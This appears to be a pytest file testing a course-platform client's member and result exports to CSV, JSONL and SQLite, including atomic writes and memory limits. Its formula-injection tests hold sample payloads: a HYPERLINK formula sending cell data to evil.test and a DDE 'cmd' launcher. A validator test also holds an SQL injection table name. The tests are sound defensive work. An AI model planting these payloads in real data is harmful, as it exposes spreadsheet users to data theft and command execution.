"""The export jobs and their writers, end to end against the sandbox academy over loopback."""

from __future__ import annotations

import csv
import gc
import sqlite3
import tracemalloc
from contextlib import AbstractAsyncContextManager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson
import pytest
from conftest import academy_and_client

from coursepath_async import CoursepathClient, ServerError
from coursepath_async.bulk import ExportFormat, export_members, export_results
from coursepath_async.bulk._export import MEMBER_COLUMNS, RESULT_COLUMNS
from coursepath_async.bulk._writers import Column, RecordWriter, open_writer
from coursepath_async.testing import Enrolment, Faults, MemberRecord, SandboxAcademy

FORMATS: tuple[ExportFormat, ...] = ("csv", "jsonl", "sqlite")


def serving(**options: Any) -> AbstractAsyncContextManager[tuple[SandboxAcademy, CoursepathClient]]:
    """A seeded academy and an admin client with instant retries; both closed afterwards."""
    return academy_and_client(**{"members": 30, "courses": 4, "groups": 2, "seed": 3, **options})


def read_back(path: Path, format: ExportFormat, table: str) -> list[dict[str, Any]]:
    """The records of an export file as dicts of strings/numbers, in file order."""
    if format == "csv":
        with path.open(newline="", encoding="utf-8") as stream:
            return list(csv.DictReader(stream))
    if format == "jsonl":
        return [orjson.loads(line) for line in path.read_bytes().splitlines()]
    conn = sqlite3.connect(path)
    conn.row_factory = sqlite3.Row
    try:
        return [dict(row) for row in conn.execute(f"SELECT * FROM {table}")]
    finally:
        conn.close()


def text(value: Any) -> str | None:
    """A value read back from any format, as comparable text (CSV has no None)."""
    return None if value in (None, "") else str(value)


def when(value: Any) -> datetime | None:
    return None if value in (None, "") else datetime.fromisoformat(value)


def expected_member(member: MemberRecord) -> dict[str, str | None]:
    return {
        "email": member.email,
        "name": member.name,
        "company": member.company,
        "department": member.department,
        "country": member.country,
        "external_id": member.external_id,
        "association": member.association,
        "identification": member.identification,
        "registration": member.registration,
    }


def leftovers(directory: Path) -> list[str]:
    """Files in ``directory``: a failed export must leave none (temporary files included)."""
    return sorted(path.name for path in directory.iterdir())


# -- members ------------------------------------------------------------------------------


@pytest.mark.parametrize("format", FORMATS)
async def test_members_round_trip(format: ExportFormat, tmp_path: Path) -> None:
    """Every member is written once with every field, and dates read back as the same instant."""
    out = tmp_path / f"members.{format}"
    seen: list[object] = []
    async with serving(members=1_234) as (academy, client):
        stats = await export_members(client, out, format=format, on_record=seen.append)
    members = academy.state.members()
    assert (stats.records, stats.skipped, stats.path, stats.format) == (1_234, 0, out, format)
    assert len(seen) == 1_234
    assert stats.seconds >= 0
    records = read_back(out, format, "members")
    assert list(records[0]) == [column.name for column in MEMBER_COLUMNS]
    assert [int(r["id"]) for r in records] == [m.id for m in members]  # listing order
    for record, member in zip(records, members, strict=True):
        assert {k: text(record[k]) for k in expected_member(member)} == expected_member(member)
        assert when(record["created_date"]) == member.created
    assert leftovers(tmp_path) == [out.name]


async def test_member_filters_and_bulk_priority(tmp_path: Path) -> None:
    """Filters reach the listing, and the export's calls wait in the BULK lane."""
    out = tmp_path / "members.jsonl"
    async with serving() as (academy, client):
        company = academy.state.members()[1].company
        assert company is not None
        stats = await export_members(client, out, format="jsonl", company=company)
        assert client.priority.name == "NORMAL"  # the caller's client is left as it was
    wanted = [m.id for m in academy.state.members() if m.company == company]
    assert [r["id"] for r in read_back(out, "jsonl", "members")] == wanted
    assert stats.records == len(wanted) > 0


async def test_refuses_to_overwrite_before_any_call(tmp_path: Path) -> None:
    """An existing output file is kept and nothing is requested; overwrite=True replaces it."""
    out = tmp_path / "members.csv"
    out.write_text("precious\n")
    async with serving() as (academy, client):
        with pytest.raises(FileExistsError, match="overwrite=True"):
            await export_members(client, out, format="csv")
        assert academy.recorder.total == 0
        stats = await export_members(client, out, format="csv", overwrite=True)
    assert out.read_text().startswith("id,email,")
    assert stats.records == 30
    assert leftovers(tmp_path) == [out.name]


@pytest.mark.parametrize("format", FORMATS)
async def test_no_partial_file_when_the_listing_fails(format: ExportFormat, tmp_path: Path) -> None:
    """A listing that fails after the first page leaves no output and no temporary file."""
    out = tmp_path / f"members.{format}"
    written: list[object] = []
    async with serving(members=1_500) as (academy, client):
        academy.script("GET", "/members", "ok", *([500] * 40))
        with pytest.raises(ServerError):
            await export_members(client, out, format=format, on_record=written.append)
        academy.clear_script()
    assert len(written) == 500  # the first page was written to the temporary file...
    assert leftovers(tmp_path) == []  # ...which is gone


async def export_peak(members: int, directory: Path) -> int:
    """Bytes allocated at the peak of a members export, above what was live before it."""
    async with serving(members=members, courses=1, groups=1) as (academy, client):
        for member in academy.state.members():  # the sandbox caches its JSON: fill it first
            academy.state.encode_member(member)
        await export_members(client, directory / f"warm-{members}.csv", format="csv")
        gc.collect()
        tracemalloc.start()
        try:
            base = tracemalloc.get_traced_memory()[0]
            stats = await export_members(client, directory / f"{members}.sqlite", format="sqlite")
            peak = tracemalloc.get_traced_memory()[1] - base
        finally:
            tracemalloc.stop()
    assert stats.records == members
    return peak


async def test_memory_stays_flat_while_the_academy_grows(tmp_path: Path) -> None:
    """Twice the members, same peak memory: bounded by the pages in flight, not the academy."""
    # Both sizes are well past the 8 x 500 members of the page window, so both peak alike.
    small = await export_peak(10_000, tmp_path)
    large = await export_peak(20_000, tmp_path)
    # Holding 10,000 more members would cost about 10 MB; streaming them costs nothing.
    assert large - small < 1.5 * 2**20, (small, large)
    assert large < 12 * 2**20, large  # ~6.5 MB: eight pages of 500 members, both ends


# -- results ------------------------------------------------------------------------------


def expected_results(academy: SandboxAcademy) -> dict[tuple[int, int], Enrolment]:
    return {(e.course_id, e.member_id): e for e in academy.state.enrolments()}


@pytest.mark.parametrize("format", FORMATS)
async def test_results_carry_scores_success_and_certificates(
    format: ExportFormat, tmp_path: Path
) -> None:
    """Every enrolment is one record with its learner, enrolment date and result."""
    out = tmp_path / f"results.{format}"
    async with serving(members=60, completion_rate=0.0) as (academy, client):
        learner = academy.state.enrolments(2)[0].member_id
        academy.complete_course(2, learner, score=87.5, success=True)
        academy.complete_random(0.5, seed=4)
        stats = await export_results(client, out, format=format, concurrency=5)
    enrolments = expected_results(academy)
    records = read_back(out, format, "results")
    assert list(records[0]) == [column.name for column in RESULT_COLUMNS]
    assert (stats.records, stats.skipped) == (len(enrolments), 0)
    assert len(records) == stats.records
    by_pair = {(int(r["course_id"]), int(r["member_id"])): r for r in records}
    assert by_pair.keys() == enrolments.keys()  # each pair exactly once
    assert any(e.completed is None for e in enrolments.values())
    assert sum(e.success is False for e in enrolments.values()) > 0
    for pair, enrolment in enrolments.items():
        record = by_pair[pair]
        member = academy.state.member(enrolment.member_id)
        assert record["course_name"] == academy.state.course(enrolment.course_id).name
        assert (record["email"], text(record["external_id"])) == (member.email, member.external_id)
        assert when(record["enrolled_date"]) == enrolment.created
        assert when(record["completed_date"]) == enrolment.completed
        assert text(record["certificate"]) == enrolment.certificate
        score = record["score"]
        assert (None if score in (None, "") else float(score)) == enrolment.score
        success = {"true": True, "false": False, "": None, 1: True, 0: False}.get(
            record["success"], record["success"]
        )
        assert success == enrolment.success
    special = by_pair[(2, learner)]
    assert text(special["score"]) == "87.5"
    assert special["certificate"]


async def test_sqlite_results_have_typed_columns(tmp_path: Path) -> None:
    """The SQLite table stores ids as integers, scores as reals, success as 0/1, dates as text."""
    out = tmp_path / "results.sqlite"
    async with serving(completion_rate=1.0) as (_, client):
        await export_results(client, out, format="sqlite", course_ids=[1])
    conn = sqlite3.connect(out)
    try:
        types = conn.execute(
            "SELECT DISTINCT typeof(course_id), typeof(member_id), typeof(score),"
            " typeof(success), typeof(completed_date) FROM results"
        ).fetchall()
        declared = {row[1]: row[2] for row in conn.execute("PRAGMA table_info(results)")}
    finally:
        conn.close()
    assert types == [("integer", "integer", "real", "integer", "text")]
    assert declared["score"] == "REAL"
    assert declared["success"] == "INTEGER"


async def test_completed_only_and_course_ids(tmp_path: Path) -> None:
    """completed_only keeps finished results; course_ids limits the courses (repeats once)."""
    out = tmp_path / "results.jsonl"
    async with serving(members=80) as (academy, client):
        academy.complete_random(0.3, seed=9)
        stats = await export_results(
            client, out, format="jsonl", course_ids=[3, 1, 3], completed_only=True
        )
    wanted = {
        (e.course_id, e.member_id)
        for e in academy.state.enrolments()
        if e.course_id in (1, 3) and e.completed is not None
    }
    records = read_back(out, "jsonl", "results")
    assert {(r["course_id"], r["member_id"]) for r in records} == wanted
    assert stats.records == len(wanted) > 0
    assert stats.skipped == 0
    assert all(r["completed_date"] is not None for r in records)


async def test_learner_gone_mid_export_is_skipped(tmp_path: Path) -> None:
    """A result that 404s (unenrolled after the listing) is counted as skipped, not fatal."""
    out = tmp_path / "results.csv"
    async with serving() as (academy, client):
        gone = academy.state.enrolments(2)[1]
        academy.script("GET", f"/courses/2/members/{gone.member_id}/coursemember", 404)
        stats = await export_results(client, out, format="csv")
    total = len(academy.state.enrolments())
    assert (stats.records, stats.skipped) == (total - 1, 1)
    records = read_back(out, "csv", "results")
    assert ("2", str(gone.member_id)) not in {(r["course_id"], r["member_id"]) for r in records}


async def test_failing_results_leave_no_file(tmp_path: Path) -> None:
    """A result call that keeps failing aborts the export: no output, no temporary file."""
    out = tmp_path / "results.sqlite"
    async with serving(members=100) as (academy, client):
        academy.script("GET", "/courses/{c}/members/{m}/coursemember", *["ok"] * 10, *[503] * 60)
        with pytest.raises(ServerError):
            await export_results(client, out, format="sqlite", concurrency=2)
        academy.clear_script()
    assert leftovers(tmp_path) == []


async def test_persistent_faults_fail_cleanly(tmp_path: Path) -> None:
    """With every request failing the export raises, and the existing file is untouched."""
    out = tmp_path / "results.csv"
    out.write_text("yesterday\n")
    async with serving(faults=Faults(seed=1, error_rate=1.0)) as (_, client):
        with pytest.raises(ServerError):
            await export_results(client, out, format="csv", overwrite=True)
    assert out.read_text() == "yesterday\n"
    assert leftovers(tmp_path) == [out.name]


# -- writers ------------------------------------------------------------------------------

COLUMNS = (
    Column("id", "int"),
    Column("note"),
    Column("score", "float"),
    Column("ok", "bool"),
    Column("at", "date"),
)
AWKWARD = {
    "id": 1,
    "note": 'comma, "quote"\r\nand a new line; ünïcode',
    "score": 0.5,
    "ok": False,
    "at": datetime(2024, 2, 29, 12, 30, tzinfo=UTC),
    "ignored": "not a column",
}
EMPTY = {"id": 2}


def written(format: ExportFormat, tmp_path: Path) -> Path:
    """The awkward and the empty record, written in ``format``."""
    path = tmp_path / f"out.{format}"
    with open_writer(format, path, COLUMNS, table="things") as writer:
        writer.write(AWKWARD)
        writer.write(EMPTY)
    assert writer.records == 2
    return path


def test_csv_quotes_per_rfc_4180(tmp_path: Path) -> None:
    """CSV quotes commas, quotes and line breaks, ends lines with CRLF, writes None as empty."""
    path = written("csv", tmp_path)
    raw = path.read_bytes()
    assert raw.startswith(b"id,note,score,ok,at\r\n")
    assert b'"comma, ""quote""\r\nand a new line; \xc3\xbcn\xc3\xafcode"' in raw
    assert raw.endswith(b"2,,,,\r\n")
    first, second = read_back(path, "csv", "things")
    assert first["note"] == AWKWARD["note"]
    assert first["at"] == "2024-02-29T12:30:00+00:00"
    assert (first["ok"], first["score"]) == ("false", "0.5")
    assert second == {"id": "2", "note": "", "score": "", "ok": "", "at": ""}


def test_jsonl_is_one_object_per_line(tmp_path: Path) -> None:
    """JSON Lines keeps types, nulls and column order; unknown keys are dropped."""
    path = written("jsonl", tmp_path)
    first, second = read_back(path, "jsonl", "things")
    assert list(first) == ["id", "note", "score", "ok", "at"]
    assert first == {
        **{k: v for k, v in AWKWARD.items() if k != "ignored"},
        "at": "2024-02-29T12:30:00+00:00",
    }
    assert second == {"id": 2, "note": None, "score": None, "ok": None, "at": None}


def test_sqlite_writes_typed_rows_in_batches(tmp_path: Path) -> None:
    """SQLite rows span several batches and keep their types; NULL stays NULL."""
    path = tmp_path / "out.sqlite"
    with open_writer("sqlite", path, COLUMNS, table="things") as writer:
        for n in range(2_345):
            writer.write({**AWKWARD, "id": n, "ok": n % 2 == 0})
        writer.write(EMPTY)
    conn = sqlite3.connect(path)
    try:
        assert conn.execute("SELECT count(*), sum(ok) FROM things").fetchone() == (2_346, 1_173)
        assert conn.execute("SELECT * FROM things WHERE id = 2 AND note IS NULL").fetchone() == (
            2,
            None,
            None,
            None,
            None,
        )
    finally:
        conn.close()


def write_then_fail(writer: RecordWriter) -> None:
    """Write a record, then fail inside the writer's block."""
    with writer:
        writer.write(AWKWARD)
        raise RuntimeError("boom")


def test_writer_failure_leaves_the_target_alone(tmp_path: Path) -> None:
    """An exception inside the block discards the temporary file and keeps the old target."""
    path = tmp_path / "out.csv"
    path.write_text("old\n")
    writer = open_writer("csv", path, COLUMNS, overwrite=True)
    with pytest.raises(RuntimeError, match="boom"):
        write_then_fail(writer)
    assert path.read_text() == "old\n"
    assert leftovers(tmp_path) == ["out.csv"]
    with pytest.raises(ValueError, match="closed"):
        writer.write(AWKWARD)


def test_writer_arguments_are_checked(tmp_path: Path) -> None:
    """Unknown formats, unsafe SQL names and empty column lists are refused up front."""
    with pytest.raises(ValueError, match="format"):
        open_writer("xlsx", tmp_path / "x", COLUMNS)  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="identifier"):
        open_writer("sqlite", tmp_path / "x", COLUMNS, table="t; DROP TABLE x")
    with pytest.raises(ValueError, match="identifier"):
        Column("Bad Name")
    with pytest.raises(ValueError, match="kind"):
        Column("ok", "blob")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="column"):
        open_writer("csv", tmp_path / "x", ())
    assert leftovers(tmp_path) == []


# -- spreadsheet formulas (CSV injection) --------------------------------------------------

EVIL_EMAIL = "evil@example.test"
#: Member fields a spreadsheet would run as formulas if written raw.
EVIL = {
    "name": '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "company": "+cmd|' /C calc'!A0",
    "department": "@SUM(1+1)",
    "country": "-2+3",
    "external_id": "\t=1+1",
}


async def evil_member_export(tmp_path: Path, format: ExportFormat, **options: Any) -> Any:
    """Export the members of an academy holding one formula-named member; return its record."""
    out = tmp_path / f"members.{format}"
    async with serving(members=3) as (academy, client):
        academy.state.add_member(
            EVIL_EMAIL,
            name=EVIL["name"],
            company=EVIL["company"],
            department=EVIL["department"],
            country=EVIL["country"],
            external_id=EVIL["external_id"],
        )
        await export_members(client, out, format=format, **options)
    (record,) = [r for r in read_back(out, format, "members") if r["email"] == EVIL_EMAIL]
    return record


async def test_csv_export_neutralises_formulas_by_default(tmp_path: Path) -> None:
    """A CSV export writes formula-looking member fields with a leading quote, inert in sheets."""
    record = await evil_member_export(tmp_path, "csv")
    assert {k: record[k] for k in EVIL} == {k: "'" + v for k, v in EVIL.items()}
    assert int(record["id"]) > 0


async def test_csv_export_opt_out_writes_formulas_raw(tmp_path: Path) -> None:
    """formula_guard=False writes formula-looking member fields exactly as stored."""
    record = await evil_member_export(tmp_path, "csv", formula_guard=False)
    assert {k: record[k] for k in EVIL} == EVIL


@pytest.mark.parametrize("format", ["jsonl", "sqlite"])
async def test_data_formats_keep_formulas_raw(format: ExportFormat, tmp_path: Path) -> None:
    """JSONL and SQLite exports are data, not sheets: formula-looking values stay raw."""
    record = await evil_member_export(tmp_path, format)
    assert {k: record[k] for k in EVIL} == EVIL


@pytest.mark.parametrize("formula_guard", [True, False])
async def test_results_csv_export_follows_formula_guard(
    formula_guard: bool, tmp_path: Path
) -> None:
    """A results CSV export guards a formula-named course by default and not when opted out."""
    out = tmp_path / "results.csv"
    async with serving(members=2) as (academy, client):
        course = academy.state.add_course("=1+1")
        academy.state.enrol(course.id, academy.state.members()[0].id)
        await export_results(
            client, out, format="csv", course_ids=[course.id], formula_guard=formula_guard
        )
    (record,) = read_back(out, "csv", "results")
    assert record["course_name"] == ("'=1+1" if formula_guard else "=1+1")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_writer_guards_every_formula_start(start: str, tmp_path: Path) -> None:
    """Text starting with = + - @, tab or CR gets a leading quote; numbers in the row do not."""
    path = tmp_path / "out.csv"
    with open_writer("csv", path, COLUMNS) as writer:
        writer.write({"id": -7, "note": f"{start}1+1", "score": -1.5, "ok": True})
    (record,) = read_back(path, "csv", "things")
    assert record == {"id": "-7", "note": f"'{start}1+1", "score": "-1.5", "ok": "true", "at": ""}


def test_csv_writer_leaves_ordinary_values_alone(tmp_path: Path) -> None:
    """Ordinary text (a '+' inside an email, names, signed plain numbers) and numbers are as is."""
    notes = [
        "ann+hr@example.test",
        "Ann O'Brien",
        "R&D - Paris = HQ",
        "-42",
        "+33612345678",
        "-0.5",
        "",
    ]
    path = tmp_path / "out.csv"
    with open_writer("csv", path, COLUMNS) as writer:
        for n, note in enumerate(notes):
            writer.write({"id": -n, "note": note, "score": -n / 4, "ok": False})
    records = read_back(path, "csv", "things")
    assert [r["note"] for r in records] == notes
    assert [r["id"] for r in records] == [str(-n) for n in range(len(notes))]
    assert [r["score"] for r in records] == [str(-n / 4) for n in range(len(notes))]
